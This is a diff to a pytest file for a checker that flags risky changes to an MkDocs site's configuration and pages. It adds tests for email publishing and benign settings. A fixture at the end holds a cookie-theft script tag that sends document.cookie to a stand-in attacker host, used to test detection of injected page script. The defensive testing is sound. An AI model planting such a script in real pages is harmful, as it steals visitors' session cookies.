@@ -161,6 +161,32 @@ def test_what_can_run_code_or_script_in_mkdocs_yml_needs_review(
     assert flagged in issues[0][2]
 
 
+def test_publishing_emails_through_the_plugin_needs_review(repo: GitRepo) -> None:
+    repo.write("mkdocs.yml", repo.read("mkdocs.yml").replace("show_emails: false",
+                                                             "show_emails: true"))
+    repo.commit("Show emails")
+    code, issues = found(repo)
+    assert code == 0 and [(f, s) for f, s, _ in issues] == [("mkdocs.yml", "review")]
+    assert "the register plugin's options decide what the site publishes" in issues[0][2]
+
+
+@pytest.mark.parametrize(("old", "new"), [
+    ("site_name: Professional disagreements register", "site_name: Kent disagreements register"),
+    ("docs_dir: site\n", "docs_dir: site\nrepo_url: https://github.com/partnership/register\n"),
+    ("primary: indigo", "primary: teal"),
+    ("      permalink: true", "      permalink: true\n  - abbr\n  - def_list"),
+    ("  - search\n", "  - search:\n      lang: en\n"),
+], ids=["site-name", "repo-url", "palette", "plain-extensions", "search-options"])
+def test_honest_site_settings_pass(repo: GitRepo, old: str, new: str) -> None:
+    """What the administrator's guide asks for (repo_url) and other plain settings; the
+    `!ENV` tags of the shipped file are read as data, not refused."""
+    text = repo.read("mkdocs.yml")
+    assert old in text
+    repo.write("mkdocs.yml", text.replace(old, new))
+    repo.commit("Our partnership's settings")
+    assert found(repo) == (0, [])
+
+
 # --- script in the site's pages -----------------------------------------------------------
 
 SCRIPT = "\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n"
